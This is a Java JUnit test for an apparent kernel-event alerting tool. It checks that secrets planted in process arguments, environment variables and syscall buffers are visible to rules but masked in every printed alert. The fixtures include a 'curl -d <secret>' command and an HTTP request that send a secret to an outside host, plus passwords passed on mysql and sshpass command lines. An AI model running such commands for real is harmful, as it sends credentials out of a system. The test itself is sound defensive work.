package io.vedette.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import io.vedette.model.Alert;
import io.vedette.model.AlertFormat;
import io.vedette.model.FieldCatalogue;
import io.vedette.model.spi.EventSource;
import io.vedette.pipeline.Pipeline;
import io.vedette.rules.LoadOptions;
import io.vedette.rules.LoadResult;
import io.vedette.rules.Matching;
import io.vedette.rules.RuleFile;
import io.vedette.rules.RuleLoader;
import io.vedette.rules.RuleSelection;
import io.vedette.syscalls.WrittenEvents;
import java.io.IOException;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Secrets in arguments, environments and buffers of kernel events: rules see them, and none comes
 * out in an alert, whatever the rules print.
 */
class PlantedKernelSecretsTest {
    private static final JsonMapper JSON = new JsonMapper();

    private static final String CURIOUS_RULES =
            """
            - rule: Everything
              desc: every event
              condition: evt.num > 0
              output: >
                %evt.args %evt.info %evt.arg.args %evt.arg.env %evt.arg.data %evt.buffer
                %proc.cmdline %proc.args %proc.args[0] %proc.args[1] %proc.args[2] %proc.args[3] %proc.exeline
                %proc.env %proc.env[DB_PASSWORD] %proc.aenv %proc.aenv[1] %proc.aenv[DB_PASSWORD]
                %proc.pcmdline %proc.acmdline %proc.acmdline[1] %proc.acmdline[2] %proc.aargs %proc.aargs[1]
                %proc.pexe %proc.cwd %fd.name %fs.path.name
              priority: INFO
              source: syscall
            - rule: Seen
              desc: rules see the values themselves
              condition: proc.args contains PLANTED or proc.env contains PLANTED or evt.buffer contains PLANTED
              output: seen
              priority: INFO
              source: syscall
            """;

    private static ObjectNode process(String exe, String... arguments) {
        ObjectNode process = JSON.createObjectNode().put("exe", exe);
        ArrayNode args = process.putArray("args");
        for (String argument : arguments) {
            args.add(argument);
        }
        return process;
    }

    private static ObjectNode event(String name, ObjectNode process) {
        ObjectNode event = JSON.createObjectNode().put("syscall", name);
        event.set("process", process);
        return event;
    }

    private static ObjectNode below(ObjectNode parent) {
        ObjectNode child = process("/usr/bin/sleep", "1");
        child.set("parent", parent);
        return child;
    }

    /** Events with a secret at each place where one is told by what stands beside it. */
    private static List<ObjectNode> withAny(String secret) {
        var events = new ArrayList<ObjectNode>();
        for (ObjectNode process :
                List.of(
                        process("/usr/bin/app", "serve", "--db-password", secret),
                        process("/usr/bin/app", "serve", "--db-password=" + secret),
                        process("/usr/bin/mysql", "-u", "root", "-p" + secret),
                        process("/usr/bin/sshpass", "-p", secret, "ssh"))) {
            events.add(event("execve", process));
            events.add(event("getcwd", process));
            events.add(event("getcwd", below(process)));
            events.add(event("getcwd", below(below(process))));
            events.add(event("execve", process).put("res", "ENOENT"));
        }
        ObjectNode environment = process("/usr/bin/app", "serve");
        environment.putObject("env").put("HOME", "/root").put("DB_PASSWORD", secret);
        events.add(event("execve", environment));
        events.add(event("getcwd", below(environment)));
        return events;
    }

    /** Events with a secret at places where only its own form tells it. */
    private static List<ObjectNode> withRecognisable(String secret) {
        ObjectNode script = process("/bin/sh", "-c", "curl -d " + secret + " http://a.example.com");
        ObjectNode environment = process("/usr/bin/app", "serve");
        environment.putObject("env").put("A", "1").put("STARTED_WITH", secret);
        return List.of(
                event("execve", script),
                event("getcwd", below(script)),
                event("execve", environment),
                event("write", process("/usr/bin/app"))
                        .put("fd", "/tmp/x")
                        .put("data", "a " + secret + " b")
                        .put("res", 10),
                event("sendto", process("/usr/bin/app"))
                        .put("fd", "10.1.0.5:4000->203.0.113.9:80")
                        .put("data", "GET /?a=" + secret + " HTTP/1.1")
                        .put("res", 10));
    }

    private static List<Alert> alertsOf(List<ObjectNode> events, String planted)
            throws IOException {
        var lines = new StringBuilder();
        events.forEach(event -> lines.append(event).append('\n'));
        String rules = CURIOUS_RULES.replace("PLANTED", JSON.writeValueAsString(planted));
        LoadResult loaded =
                new RuleLoader(FieldCatalogue.loadAll(), LoadOptions.DEFAULT)
                        .load(List.of(new RuleFile("curious.yaml", rules)));
        assertThat(loaded.isSuccessful()).isTrue();
        var alerts = new ArrayList<Alert>();
        var pipeline =
                new Pipeline(
                        RuleSelection.AS_FILED.apply(loaded.rules()),
                        FieldCatalogue.loadAll(),
                        Matching.ALL,
                        alerts::add,
                        failure -> {
                            throw new AssertionError(failure);
                        });
        try (EventSource source =
                WrittenEvents.read(
                        lines.toString(),
                        "test",
                        problem -> {
                            throw new AssertionError(problem.toString());
                        })) {
            pipeline.run(source);
        }
        long everything =
                alerts.stream().filter(alert -> alert.rule().equals("Everything")).count();
        assertThat(everything).isEqualTo(events.size());
        return alerts;
    }

    private static void check(List<ObjectNode> events, String secret, String seed)
            throws IOException {
        String part =
                secret.lines()
                        .filter(line -> !line.startsWith("---"))
                        .reduce("", (a, b) -> a.length() >= b.length() ? a : b);
        List<Alert> alerts = alertsOf(events, part);

        assertThat(alerts)
                .as("%s: rules see %s", seed, secret)
                .anyMatch(alert -> alert.rule().equals("Seen"));
        var format = new AlertFormat(true, false, ZoneOffset.UTC);
        for (Alert alert : alerts) {
            for (String printed :
                    List.of(format.json(alert), format.text(alert), alert.toString())) {
                assertThat(printed.contains(part))
                        .as("%s: %s came out in %s", seed, secret, printed)
                        .isFalse();
            }
        }
    }

    @Test
    void neverComeOutWhereTheirPlaceTellsThem() throws IOException {
        long seed = new Random().nextLong();
        for (String secret : new PlantedSecrets(new Random(seed)).all()) {
            check(withAny(secret), secret, "seed " + seed);
        }
    }

    @Test
    void neverComeOutWhereTheirFormTellsThem() throws IOException {
        long seed = new Random().nextLong();
        for (String secret : new PlantedSecrets(new Random(seed)).recognisable()) {
            check(withRecognisable(secret), secret, "seed " + seed);
        }
    }

    @Test
    void haveTheSameMaskWhereverTheyStand() throws IOException {
        ObjectNode process = process("/usr/bin/app", "--token", "correcthorsebattery");
        process.putObject("env").put("DB_PASSWORD", "correcthorsebattery");

        Alert alert = alertsOf(List.of(event("getcwd", process)), "correcthorsebattery").getFirst();

        String argument = alert.fields().get("proc.args[1]").text();
        assertThat(argument).matches("masked:[0-9a-f]{12}");
        assertThat(alert.fields().get("proc.env[DB_PASSWORD]").text()).isEqualTo(argument);
        assertThat(alert.fields().get("proc.cmdline").text()).isEqualTo("app --token " + argument);
    }
}
